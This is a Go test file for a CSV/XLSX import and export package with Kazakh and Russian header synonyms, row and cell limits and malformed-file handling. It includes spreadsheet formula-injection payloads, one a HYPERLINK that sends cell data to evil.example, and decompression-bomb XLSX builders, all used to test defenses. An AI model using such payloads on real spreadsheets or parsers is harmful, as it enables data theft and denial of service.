package tabular_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/ortaq/ortaq/internal/errs"
	"github.com/ortaq/ortaq/internal/tabular"
	"github.com/ortaq/ortaq/internal/tabular/xlsxtest"
)

var members = tabular.Spec{
	Columns: []tabular.Column{
		{Name: "name", Required: true, Synonyms: []string{"аты-жөні", "ФИО"}},
		{Name: "email", Required: true, Synonyms: []string{"электрондық пошта", "почта"}},
		{Name: "role", Synonyms: []string{"рөлі", "роль"}},
	},
	MaxRows: 1000,
	Keys:    tabular.Keys{UnknownColumn: "orgs.import.unknown_column", TooManyRows: "orgs.import.too_many_rows"},
}

func read(t *testing.T, data []byte, spec *tabular.Spec) *tabular.Table {
	t.Helper()
	tb, err := tabular.Read(data, spec)
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	return tb
}

// code returns err's code and message key, or its first field's key.
func code(err error) (errs.Code, string) {
	e, ok := errs.As(err)
	if !ok {
		return "", fmt.Sprint(err)
	}
	if len(e.Fields) > 0 {
		return e.Code, e.Fields[0].Key
	}
	return e.Code, e.Key
}

func rows(tb *tabular.Table, cols ...string) string {
	var b strings.Builder
	for _, r := range tb.Rows {
		fmt.Fprintf(&b, "%d:", r.Line)
		for _, c := range cols {
			b.WriteString(r.Get(c) + "|")
		}
		b.WriteString("\n")
	}
	return b.String()
}

func TestHeaderSynonymsAndRows(t *testing.T) {
	// Kazakh and Russian headers, any case and script, a "*" for required,
	// a byte-order mark, semicolons; blank rows left out but numbered.
	data := "\ufeffАТЫ-ЖӨНІ*;Почта;Роль\nӘлия Серікова; a@b.kz ;мүше\n;;\n\nИван Петров;i@p.ru;\n"
	tb := read(t, []byte(data), &members)
	if got, want := rows(tb, "name", "email", "role", "region"), "2:Әлия Серікова|a@b.kz|мүше||\n4:Иван Петров|i@p.ru|||\n"; got != want {
		t.Errorf("rows:\n%s\nwant:\n%s", got, want)
	}
	if !tb.Has("role") || tb.Has("region") {
		t.Errorf("Has")
	}
	// Latin spelling of a Kazakh header folds to the same column.
	tb = read(t, []byte("aty-joni,elektrondyk poshta\nA,a@b.kz\n"), &members)
	if len(tb.Rows) != 1 || tb.Rows[0].Get("email") != "a@b.kz" {
		t.Errorf("latin headers: %q", rows(tb, "name", "email"))
	}
}

func TestHeaderProblems(t *testing.T) {
	_, err := tabular.Read([]byte("name,position,name\nA,B,C\n"), &members)
	e, _ := errs.As(err)
	if e == nil || e.Code != errs.Invalid || len(e.Fields) != 3 {
		t.Fatalf("err = %v", err)
	}
	want := []errs.Field{
		{Name: "position", Key: "orgs.import.unknown_column", Row: 1},
		{Name: "name", Key: "tabular.duplicate_column", Row: 1},
		{Name: "email", Key: "tabular.missing_column", Row: 1},
	}
	for i, f := range e.Fields {
		if f.Name != want[i].Name || f.Key != want[i].Key || f.Row != 1 {
			t.Errorf("field %d = %+v, want %+v", i, f, want[i])
		}
	}
	// A component that ignores unknown columns.
	lenient := members
	lenient.IgnoreUnknown = true
	if tb := read(t, []byte("№,name,email,notes\n1,A,a@b.kz,x\n"), &lenient); rows(tb, "name", "email") != "2:A|a@b.kz|\n" {
		t.Errorf("lenient: %q", rows(tb, "name", "email"))
	}
	// An empty file; a file field.
	withField := members
	withField.FileField = "file"
	for _, data := range []string{"", "\n\n", ",,\n"} {
		_, err := tabular.Read([]byte(data), &withField)
		if e, _ := errs.As(err); e == nil || len(e.Fields) != 1 || e.Fields[0].Name != "file" || e.Fields[0].Key != "tabular.empty" {
			t.Errorf("empty %q: %v", data, err)
		}
	}
	if _, key := code(must(tabular.Read([]byte("name,email\n\xff\xfe,x\n"), &members))); key != "tabular.not_utf8" {
		t.Errorf("not utf-8: %s", key)
	}
}

func must(_ *tabular.Table, err error) error { return err }

func TestCaps(t *testing.T) {
	var b strings.Builder
	b.WriteString("name,email\n")
	for i := range 1000 {
		fmt.Fprintf(&b, "n%d,e%d\n", i, i)
	}
	if tb := read(t, []byte(b.String()), &members); len(tb.Rows) != 1000 {
		t.Fatalf("1000 rows: %d", len(tb.Rows))
	}
	// Blank rows count: the cap is on the file's rows.
	if c, key := code(must(tabular.Read([]byte(b.String()+",\n"), &members))); c != errs.Invalid || key != "orgs.import.too_many_rows" {
		t.Errorf("1001 rows: %s %s", c, key)
	}
	// Columns: empty cells far right are nothing; a value is refused.
	if tb := read(t, []byte("name,email"+strings.Repeat(",", 100_000)+"\nA,a@b.kz"+strings.Repeat(",", 1_000_000)+"\n"), &members); len(tb.Rows) != 1 {
		t.Errorf("trailing separators")
	}
	if _, key := code(must(tabular.Read([]byte("name,email\nA,a"+strings.Repeat(",", 64)+"x\n"), &members))); key != "tabular.too_many_columns" {
		t.Errorf("65 columns: %s", key)
	}
	// A cell over the cap, quoted or not.
	long := strings.Repeat("ә", tabular.DefaultMaxCell+1)
	if tb := read(t, []byte("name,email\n"+long[2:]+",x\n"), &members); len(tb.Rows[0].Get("name")) != 2*tabular.DefaultMaxCell {
		t.Errorf("a cell of the longest")
	}
	for _, data := range []string{"name,email\n" + long + ",x\n", "name,email\n\"" + long + "\",x\n"} {
		_, err := tabular.Read([]byte(data), &members)
		e, _ := errs.As(err)
		if e == nil || len(e.Fields) != 1 || e.Fields[0].Key != "tabular.cell_too_long" || e.Fields[0].Row != 2 || e.Fields[0].Name != "name" {
			t.Errorf("long cell: %v", err)
		}
	}
}

// Exported cells come back as they were: the apostrophe that kept a
// formula from running is taken off again.
func TestFormulaSafeRoundTrip(t *testing.T) {
	names := []string{"=HYPERLINK(\"http://evil\",\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "'quoted", "Әлия"}
	for _, format := range []string{tabular.CSV, tabular.XLSX} {
		var buf bytes.Buffer
		w, err := tabular.NewWriter(&buf, format, "members")
		if err != nil {
			t.Fatal(err)
		}
		w.Row("name", "email")
		for i, n := range names {
			w.Row(n, fmt.Sprintf("p%d@x.kz", i))
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		tb := read(t, buf.Bytes(), &members)
		for i, n := range names {
			if got := tb.Rows[i].Get("name"); got != strings.TrimSpace(n) {
				t.Errorf("%s row %d: %q, want %q", format, i, got, n)
			}
		}
	}
}

// Every cell that a spreadsheet would run is neutralized in both formats;
// numbers stay numbers.
func TestWriterNeutralizesFormulas(t *testing.T) {
	bad := []string{"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"}
	row := []any{}
	for _, s := range bad {
		row = append(row, s)
	}
	row = append(row, 42, -7, 2.5, int64(-3), "plain", "")

	var c bytes.Buffer
	w, _ := tabular.NewWriter(&c, tabular.CSV, "x")
	if err := w.Row(row...); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(c.Bytes(), []byte("\ufeff")) {
		t.Errorf("CSV without a byte-order mark")
	}
	rec, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.Bytes(), []byte("\ufeff")))).Read()
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range bad {
		if rec[i] != "'"+s {
			t.Errorf("CSV cell %d = %q", i, rec[i])
		}
	}
	if got := strings.Join(rec[len(bad):], "|"); got != "42|-7|2.5|-3|plain|" {
		t.Errorf("CSV numbers and text: %q", got)
	}

	var x bytes.Buffer
	w, _ = tabular.NewWriter(&x, tabular.XLSX, "sheet")
	if err := w.Row(row...); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&x)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i := range row {
		cell, _ := excelize.CoordinatesToCellName(i+1, 1)
		v, _ := f.GetCellValue("sheet", cell, excelize.Options{RawCellValue: true})
		formula, _ := f.GetCellFormula("sheet", cell)
		typ, _ := f.GetCellType("sheet", cell)
		if formula != "" {
			t.Errorf("XLSX %s has a formula %q", cell, formula)
		}
		switch {
		case i < len(bad):
			if v != "'"+bad[i] || typ == excelize.CellTypeNumber {
				t.Errorf("XLSX %s = %q (%v)", cell, v, typ)
			}
		case i < len(bad)+4:
			if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
				t.Errorf("XLSX %s is %v, want a number", cell, typ)
			}
			if want := fmt.Sprint(row[i]); v != want {
				t.Errorf("XLSX %s = %q, want %q", cell, v, want)
			}
		}
	}
}

func TestXLSX(t *testing.T) {
	// A file as Excel writes it: shared strings, numbers, a date serial, a
	// boolean, a header not on the first row, a gap.
	f := excelize.NewFile()
	defer f.Close()
	set := func(cell string, v any) {
		if err := f.SetCellValue("Sheet1", cell, v); err != nil {
			t.Fatal(err)
		}
	}
	set("A2", "Аты-жөні")
	set("B2", "Почта")
	set("C2", "рөлі")
	set("A3", "Әлия")
	set("B3", "a@b.kz")
	set("C3", 12.5)
	set("A6", "Иван")
	set("B6", "i@p.ru")
	set("C6", true)
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	tb := read(t, buf.Bytes(), &members)
	if got, want := rows(tb, "name", "email", "role"), "3:Әлия|a@b.kz|12.5|\n6:Иван|i@p.ru|TRUE|\n"; got != want || tb.HeaderLine != 2 {
		t.Errorf("rows (header %d):\n%s\nwant:\n%s", tb.HeaderLine, got, want)
	}
	// Inline strings, rich text with a phonetic run, a formula's value.
	data := xlsxtest.Build(xlsxtest.Options{
		Strings: []xlsxtest.Piece{xlsxtest.Text(`<si><r><t>Әлия </t></r><r><t>Серікова</t></r><rPh><t>ignored</t></rPh></si>`)},
		Rows: []xlsxtest.Piece{
			xlsxtest.Text(`<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c><c r="B1" t="inlineStr"><is><t>email</t></is></c></row>`),
			xlsxtest.Text(`<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="str"><f>LOWER("A@B.KZ")</f><v>a@b.kz</v></c></row>`),
		},
	})
	if tb := read(t, data, &members); rows(tb, "name", "email") != "2:Әлия Серікова|a@b.kz|\n" {
		t.Errorf("inline and rich: %q", rows(tb, "name", "email"))
	}
	header := `<row r="1"><c t="inlineStr"><is><t>name</t></is></c><c t="inlineStr"><is><t>email</t></is></c></row>`
	for name, sheet := range map[string]string{
		"shared string out of range": `<row r="2"><c t="s"><v>5</v></c></row>`,
		"rows out of order":          `<row r="3"><c t="inlineStr"><is><t>a</t></is></c></row><row r="2"></row>`,
		"bad reference":              `<row r="2"><c r="ZZZZ1"><v>1</v></c></row>`,
		"broken xml":                 `<row r="2"><c><v>1&bogus;</v></c></row>`,
	} {
		data := xlsxtest.Build(xlsxtest.Options{Rows: []xlsxtest.Piece{xlsxtest.Text(header + sheet)}})
		if _, key := code(must(tabular.Read(data, &members))); key != "tabular.bad_file" {
			t.Errorf("%s: %s", name, key)
		}
	}
	if _, key := code(must(tabular.Read([]byte("PK\x03\x04 not a zip"), &members))); key != "tabular.bad_file" {
		t.Errorf("not a zip: %s", key)
	}
}

// peakHeap runs fn and returns how far the heap grew above where it
// started, sampled every millisecond.
func peakHeap(fn func()) uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	base := m.HeapAlloc
	var peak atomic.Uint64
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			if m.HeapAlloc > peak.Load() {
				peak.Store(m.HeapAlloc)
			}
			select {
			case <-stop:
				return
			case <-time.After(time.Millisecond):
			}
		}
	}()
	fn()
	close(stop)
	<-done
	if p := peak.Load(); p > base {
		return p - base
	}
	return 0
}

// Files that are small packed and huge unpacked: refused with a message,
// the heap growing by a few megabytes, not hundreds.
func TestXLSXBombs(t *testing.T) {
	header := `<row r="1"><c t="inlineStr"><is><t>name</t></is></c><c t="inlineStr"><is><t>email</t></is></c></row>`
	text, repeat := xlsxtest.Text, xlsxtest.Repeat
	rows := func(p ...xlsxtest.Piece) xlsxtest.Options {
		return xlsxtest.Options{Rows: append([]xlsxtest.Piece{text(header)}, p...)}
	}
	cases := []struct {
		name string
		opts xlsxtest.Options
		code errs.Code
		key  string
	}{
		{"3 million tiny rows", rows(repeat(`<row><c><v>1</v></c></row>`, 3_000_000)),
			errs.TooLarge, "tabular.too_large"}, // 78 MB of XML
		{"1 million tiny rows", rows(repeat(`<row><c><v>1</v></c></row>`, 1_000_000)),
			errs.Invalid, "orgs.import.too_many_rows"},
		{"3 million empty rows", rows(repeat(`<row/>`, 3_000_000)),
			errs.Invalid, "orgs.import.too_many_rows"},
		{"a row of 3 million cells", rows(text(`<row>`), repeat(`<c/>`, 3_000_000), text(`<c><v>1</v></c></row>`)),
			errs.Invalid, "tabular.bad_file"}, // beyond Excel's last column
		{"a value far right", rows(text(`<row><c r="XFD2"><v>1</v></c></row>`)),
			errs.Invalid, "tabular.too_many_columns"},
		{"a 200 MB sheet", rows(repeat(`<row>`+strings.Repeat(" ", 1<<20)+`</row>`, 200)),
			errs.TooLarge, "tabular.too_large"},
		{"one endless text", rows(text(`<row><c t="inlineStr"><is><t>`), repeat("a", 50<<20), text(`</t></is></c></row>`)),
			errs.Invalid, "tabular.bad_file"},
		{"a text in many pieces", rows(text(`<row><c t="inlineStr"><is><t>`), repeat(strings.Repeat("a", 1000)+"<!---->", 1000), text(`</t></is></c></row>`)),
			errs.Invalid, "tabular.cell_too_long"},
		{"millions of shared strings", xlsxtest.Options{Strings: []xlsxtest.Piece{repeat(`<si/>`, 5_000_000)}, Rows: []xlsxtest.Piece{text(header)}},
			errs.TooLarge, "tabular.too_large"},
		{"a styles part of millions of entries (never read)", xlsxtest.Options{
			Extra: map[string][]xlsxtest.Piece{"xl/styles.xml": {text(`<styleSheet><cellXfs>`), repeat(`<xf/>`, 5_000_000), text(`</cellXfs></styleSheet>`)}},
			Rows:  []xlsxtest.Piece{text(header + `<row><c t="inlineStr"><is><t>A</t></is></c></row>`)}}, "", ""},
	}
	spec := members
	spec.MaxRows = 100_000
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			data := xlsxtest.Build(c.opts)
			var err error
			grew := peakHeap(func() { _, err = tabular.Read(data, &spec) })
			t.Logf("%d KB packed: heap +%d MB: %v", len(data)>>10, grew>>20, err)
			if c.key == "" {
				if err != nil {
					t.Errorf("err = %v", err)
				}
			} else if got, key := code(err); got != c.code || key != c.key {
				t.Errorf("got %s %s, want %s %s", got, key, c.code, c.key)
			}
			if grew > 64<<20 {
				t.Errorf("heap grew by %d MB", grew>>20)
			}
		})
	}
}
